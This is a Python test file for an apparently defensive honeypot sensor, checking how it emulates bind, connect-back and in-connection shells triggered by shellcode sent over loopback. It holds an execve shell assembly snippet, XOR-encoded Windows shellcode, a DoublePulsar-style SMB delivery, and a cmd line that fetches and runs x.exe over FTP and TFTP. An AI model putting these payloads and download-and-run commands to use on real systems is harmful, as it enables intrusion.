"""Shells for shellcodes over real sockets: codes that bind, call back or stay; who is let in and called, what comes."""

from __future__ import annotations

import asyncio
import hashlib
import subprocess
import sys
from pathlib import Path

import pytest

from eudaemon.events.catalogue import ShellOffered
from eudaemon.payload.fetch.policy import FetchSettings
from eudaemon.payload.shellcode.shells import Shell
from eudaemon.sensor import shells
from eudaemon.world.host import Host
from eudaemon.world.seed import Seed
from payload.servers import content, serving, until_it_accepts
from payload.shellcode.assembling import assemble, under_dword_xor, windows32
from payload.shellcode.shellcodes import BIND_I386, CMD_32, CONNECT_32, CONNECT_I386, HOST, LISTEN_32, PORT
from protocols import smb_client
from sensor.farm import farm
from sensor.harness import Running, events, free_port, running

LAB = FetchSettings(lab_networks=("127.0.0.0/8",), ports=())
EXECVE_I386 = """
    xor eax, eax; push eax
    push 0x68732f2f; push 0x6e69622f
    mov ebx, esp
    push eax; push ebx
    mov ecx, esp
    cdq
    mov al, 11
    int 0x80
"""


def of_windows(body: str, port: int, host: str = "127.0.0.1") -> bytes:
    """A code for Windows that gives cmd.exe at this port, under a key as what Metasploit makes has it."""
    return under_dword_xor(_with(windows32("mov ebp, ebx\n" + body + CMD_32), port, host), b"\x7a\x11\x9c\x53")


def of_linux(source: str, port: int, host: str = "127.0.0.1") -> bytes:
    return _with(assemble("x86", source), port, host)


def _with(code: bytes, port: int, host: str) -> bytes:
    packed = bytes(map(int, HOST.split("."))), bytes(map(int, host.split(".")))
    assert PORT.to_bytes(2, "big") in code
    return code.replace(PORT.to_bytes(2, "big"), port.to_bytes(2, "big")).replace(*packed)


async def offered(sensor: Running, count: int = 1) -> list[ShellOffered]:
    """Return what was offered, once there are so many."""
    return [event.fact for event in await sensor.until("shell.offered", count=count)]  # type: ignore[misc]


async def said_with_nc(port: int, lines: bytes, *, until: bytes, source: str = "127.0.0.1") -> bytes:
    """Type these lines into netcat; return all that it shows up to `until`, and leave."""
    nc = await asyncio.create_subprocess_exec(
        "nc", "-n", "-s", source, "127.0.0.1", str(port), stdin=subprocess.PIPE, stdout=subprocess.PIPE
    )
    assert nc.stdin is not None
    assert nc.stdout is not None
    try:
        nc.stdin.write(lines)
        async with asyncio.timeout(8):
            return await nc.stdout.readuntil(until)
    finally:
        nc.kill()
        await nc.wait()


async def test_a_worm_comes_to_the_port_that_its_code_binds_and_has_its_file_fetched(tmp_path: Path) -> None:
    door, server, sample = free_port(), free_port(), content(4097)
    (tmp_path / "www").mkdir()
    (tmp_path / "www" / "x.exe").write_bytes(sample)
    ftp = subprocess.Popen(
        [sys.executable, "-m", "pyftpdlib", "-i", "127.0.0.1", "-p", str(server), "-d", str(tmp_path / "www")],
        stderr=subprocess.DEVNULL,
    )
    (tmp_path / "home").mkdir()
    try:
        await until_it_accepts(server)
        async with running(tmp_path / "home", "catchall", fetch=LAB) as sensor:
            _, writer = await sensor.connect()
            writer.write(of_windows(LISTEN_32, door))
            assert await offered(sensor) == [ShellOffered("bind", "windows", "0.0.0.0", door)]
            lines = (
                f"echo open 127.0.0.1 {server} > x& echo anonymous>> x& echo a@b>> x& echo binary>> x& "
                "echo get x.exe>> x& echo bye>> x& ftp -s:x& x.exe\n"
                "ver\ntftp -i 127.0.0.1 GET y.exe\n"
            )
            shown = await said_with_nc(door, lines.encode(), until=b">ver\r\n\r\nMicrosoft Windows")
            (kept,) = [event for event in await sensor.until("artefact.kept") if event.fact.origin == "download"]  # type: ignore[attr-defined]
            await sensor.until("download.wished", count=2)
            writer.close()
    finally:
        ftp.terminate()
        ftp.wait(10)
    assert shown.startswith(b"Microsoft Windows [Version")
    assert (kept.fact.sha256, kept.fact.size) == (hashlib.sha256(sample).hexdigest(), 4097)  # type: ignore[attr-defined]
    first, second = events(tmp_path / "home", "session.opened")
    assert (second.fact.room, second.fact.follows) == ("cmd", first.session)  # type: ignore[attr-defined]
    assert kept.session == second.session
    wished = [event.fact.url for event in events(tmp_path / "home", "download.wished")]  # type: ignore[attr-defined]
    assert wished == [f"ftp://anonymous:a%40b@127.0.0.1:{server}/x.exe", "tftp://127.0.0.1/y.exe"]
    assert not events(tmp_path / "home", "sensor.faulted", "peer.faulted")


async def test_a_code_that_comes_through_doublepulsar(tmp_path: Path) -> None:
    """And for Linux: a shell that shows no prompt. Nobody but the sender is let in."""
    door = free_port()
    seed = next(seed for seed in (b"%032d" % number for number in range(20)) if has_implant(seed))
    async with running(tmp_path, "smb", fetch=LAB, seed=seed) as sensor:
        reader, writer = await sensor.connect()
        key = 0
        for message in (*smb_client.OPENING1, smb_client.pulsar(0x23)):
            writer.write(message)
            answer = await reader.readexactly(int.from_bytes((await reader.readexactly(4))[1:], "big"))
            key = int.from_bytes(answer[14:18], "little")
        for message in smb_client.pieces(of_linux(BIND_I386, door), key):
            writer.write(message)
        assert await offered(sensor) == [ShellOffered("bind", "linux", "0.0.0.0", door)]
        stranger, leaves = await asyncio.open_connection("127.0.0.1", door, local_addr=("127.0.0.9", 0))
        assert await stranger.read() == b""
        leaves.close()
        shown = await said_with_nc(door, b"echo $((6*7)); id -u\n", until=b"0\n")
        writer.close()
    assert shown == b"42\n0\n"
    assert [event.fact.line for event in events(tmp_path, "command.entered")] == ["echo $((6*7)); id -u"]  # type: ignore[attr-defined]


def has_implant(seed: bytes) -> bool:
    return Host.from_seed(Seed(seed)).seed.number("doublepulsar", 2) == 0


@pytest.mark.parametrize("system", ["windows", "linux"])
async def test_a_code_calls_back(system: str, tmp_path: Path) -> None:
    """What waits for it is netcat; a private address means the sender's own."""
    port = free_port()
    code = of_linux(CONNECT_I386, port, "10.1.2.3") if system == "linux" else of_windows(CONNECT_32, port)
    nc = await asyncio.create_subprocess_exec(
        "nc", "-n", "-l", "127.0.0.1", str(port), stdin=subprocess.PIPE, stdout=subprocess.PIPE
    )
    assert nc.stdin is not None
    assert nc.stdout is not None
    nc.stdin.write(b"echo hel^lo\n" if system == "windows" else b"echo hel\\lo\n")
    async with running(tmp_path, "catchall", fetch=LAB) as sensor:
        await asyncio.sleep(0.3)  # nc says nothing when it listens
        _, writer = await sensor.connect()
        writer.write(code)
        async with asyncio.timeout(8):
            await nc.stdout.readuntil(b"\nhello" if system == "windows" else b"hello")
        nc.kill()
        await nc.wait()
        (fact,) = await offered(sensor)
        writer.close()
    host = "10.1.2.3" if system == "linux" else "127.0.0.1"
    assert fact == ShellOffered("connect", system, host, port)
    first, second = events(tmp_path, "session.opened")
    assert (second.fact.room, second.fact.follows) == ("cmd" if system == "windows" else "sh", first.session)  # type: ignore[attr-defined]
    assert second.attacker is not None
    assert (second.attacker.ip, second.attacker.port) == ("127.0.0.1", port)


async def test_the_second_stage_is_kept(tmp_path: Path) -> None:
    stage = content(65_536)

    async def hand_over(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(len(stage).to_bytes(4, "little") + stage)
        writer.write_eof()
        await writer.drain()

    async with serving(hand_over) as port, running(tmp_path, "catchall", fetch=LAB) as sensor:
        await sensor.say(of_windows(CONNECT_32, port))
        found = await sensor.until("artefact.kept", count=2)
    assert (found[-1].fact.name, found[-1].fact.size) == ("second stage", 65_540)  # type: ignore[attr-defined]
    assert not events(tmp_path, "command.entered")


@pytest.mark.parametrize(("fetch", "host", "why"), [
    (FetchSettings(policy="off"), "127.0.0.1", "policy"),
    (FetchSettings(ports=()), "127.0.0.1", "address: loopback"),
    (FetchSettings(lab_networks=("127.0.0.0/8",), call_back=False), "127.0.0.1", "policy: calling back"),
    (LAB, "127.0.0.2", "policy: a shell for another than the attacker"),
    (FetchSettings(lab_networks=("127.0.0.0/8",), ports=("tcp 1-9",)), "127.0.0.1", "policy: tcp port {port}"),
    (LAB, "127.0.0.1", "connect: connection refused"),
])  # fmt: skip
async def test_whom_nobody_calls(fetch: FetchSettings, host: str, why: str, tmp_path: Path) -> None:
    port = free_port()
    async with running(tmp_path, "catchall", fetch=fetch) as sensor:
        await sensor.say(of_windows(CONNECT_32, port, host))
        assert await offered(sensor) == [ShellOffered("connect", "windows", host, port, why.format(port=port))]


@pytest.mark.parametrize(("fetch", "port", "why"), [
    (FetchSettings(policy="off"), 0, "policy"),
    (FetchSettings(listen=False), 0, "policy: listening"),
    (LAB, shells.BOUND_PORT_MIN - 1, "port: not to be had"),
])  # fmt: skip
async def test_what_is_not_opened(fetch: FetchSettings, port: int, why: str, tmp_path: Path) -> None:
    port = port or free_port()
    async with running(tmp_path, "catchall", fetch=fetch) as sensor:
        await sensor.say(of_linux(BIND_I386, port))
        assert await offered(sensor) == [ShellOffered("bind", "linux", "0.0.0.0", port, why)]
        with pytest.raises(ConnectionRefusedError):
            await asyncio.open_connection("127.0.0.1", port)


async def test_over_udp_nobody_is_who_he_seems_to_be(tmp_path: Path) -> None:
    async with running(tmp_path, "catchall", transport="udp", fetch=LAB, limits_udp_idle_s_max=0.1) as sensor:
        loop = asyncio.get_running_loop()
        transport, _ = await loop.create_datagram_endpoint(
            asyncio.DatagramProtocol, remote_addr=("127.0.0.1", sensor.port)
        )
        transport.sendto(of_linux(CONNECT_I386, free_port()))
        (fact,) = await offered(sensor)
        transport.close()
    assert fact.refused == "the address may be forged"


async def test_a_shell_on_the_connection_that_brought_the_code(tmp_path: Path) -> None:
    async with running(tmp_path, "catchall", fetch=LAB) as sensor:
        reader, writer = await sensor.connect()
        writer.write(b"\x90" * 100 + assemble("x86", EXECVE_I386))
        assert await offered(sensor) == [ShellOffered("here", "linux")]
        writer.write(b"echo $((6*7))\n")
        assert await reader.readline() == b"42\n"
        writer.close()
        (closed,) = await sensor.until("session.closed")
    assert closed.fact.room == "sh"  # type: ignore[attr-defined]
    assert len(events(tmp_path, "session.opened")) == 1
    assert [event.fact.origin for event in events(tmp_path, "artefact.kept")] == ["payload"]  # type: ignore[attr-defined]


async def test_each_of_a_worms_senders_has_its_own_also_at_a_port_that_listens_already(tmp_path: Path) -> None:
    """Others at that port find what is always there."""
    port, other = free_port(), free_port()
    listen = (f"catchall tcp {port}", f"http tcp {other}")
    async with running(tmp_path, "catchall", fetch=LAB, listen=listen) as sensor:
        code = of_windows(LISTEN_32, other)
        for source in ("127.0.0.1", "127.0.0.2"):
            _, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(source, 0))
            writer.write(code)
            writer.close()
        await offered(sensor, 2)
        for source in ("127.0.0.1", "127.0.0.2"):
            await said_with_nc(other, b"ver\n", until=b">ver", source=source)
        stranger, writer = await asyncio.open_connection("127.0.0.1", other, local_addr=("127.0.0.3", 0))
        writer.write(b"GET / HTTP/1.0\r\n\r\n")
        assert (await stranger.read()).startswith(b"HTTP/1.")
        writer.close()


async def test_the_farms_word_opens_what_signatures_do_not_show(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:  # fmt: skip
    """For whoever has sent the code, although he is gone, and at once for whoever sends it next."""
    called: asyncio.Queue[bytes] = asyncio.Queue()

    async def taken(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"echo $((6*7))\n")
        await called.put(await reader.readline())
        writer.close()

    code = b"a code for a CPU of which signatures know nothing".ljust(200, b"\0")
    sha256 = hashlib.sha256(code).hexdigest()
    async with (
        serving(taken) as port,
        farm(tmp_path) as (it, uplink),
        running(tmp_path, "catchall", fetch=LAB, uplink=uplink) as sensor,
    ):
        await sensor.say(code)
        await it.until("artefact.kept")
        shell = Shell("connect", "linux", "127.0.0.1", port)
        it.words = [{"sha256": sha256, "shells": [shell.as_json()]}, {"sha256": "0" * 64, "shells": [{"way": "up"}]}]
        async with asyncio.timeout(8):
            assert await called.get() == b"42\n"
            await sensor.say(code)
            assert await called.get() == b"42\n"
        offered_there = await it.until("shell.offered", 2)
    assert [(one["way"], one["port"], one.get("refused", "")) for one in offered_there] == [("connect", port, "")] * 2
    assert "what this version does not understand" in caplog.text


async def test_they_are_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(shells, "PER_ADDRESS_MAX", 2)
    monkeypatch.setattr(shells, "SHELLS_MAX", 3)
    ports = [free_port() for _ in range(3)]
    refused = []
    async with running(tmp_path, "catchall", fetch=LAB) as sensor:
        for source in ("127.0.0.1", "127.0.0.2"):
            for port in ports:
                _, writer = await asyncio.open_connection("127.0.0.1", sensor.port, local_addr=(source, 0))
                writer.write(of_linux(BIND_I386, port))
                writer.close()
                refused.append((await offered(sensor, len(refused) + 1))[-1].refused)
    assert [bool(why) for why in refused] == [False, False, True, False, True, True]
    assert refused[-1] == "too many shells at once"


@pytest.mark.parametrize("host", ["", "somewhere.example", "::1", "256.1.1.1"])
async def test_who_is_called_has_an_address_and_it_is_the_senders(host: str, tmp_path: Path) -> None:
    async with running(tmp_path, "catchall", fetch=LAB) as sensor:
        _, writer = await sensor.connect()
        await sensor.until("session.opened")
        assert sensor.sensor._driver is not None
        (session,) = sensor.sensor._driver.sessions
        sensor.sensor._driver.shells.open(session, Shell("connect", "linux", host, 4444), here=False)
        assert (await offered(sensor))[0].refused == "policy: a shell for another than the attacker"
        writer.close()


async def test_nobody_is_awaited_for_ever(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(shells, "WAIT_S_MAX", 0.3)
    port = free_port()
    async with running(tmp_path, "catchall", fetch=LAB) as sensor:
        await sensor.say(of_linux(BIND_I386, port))
        assert [fact.refused for fact in await offered(sensor)] == [""]
        async with asyncio.timeout(8):
            while True:
                try:
                    _, writer = await asyncio.open_connection("127.0.0.1", port)
                except ConnectionRefusedError:
                    break
                writer.close()
                await asyncio.sleep(0.05)
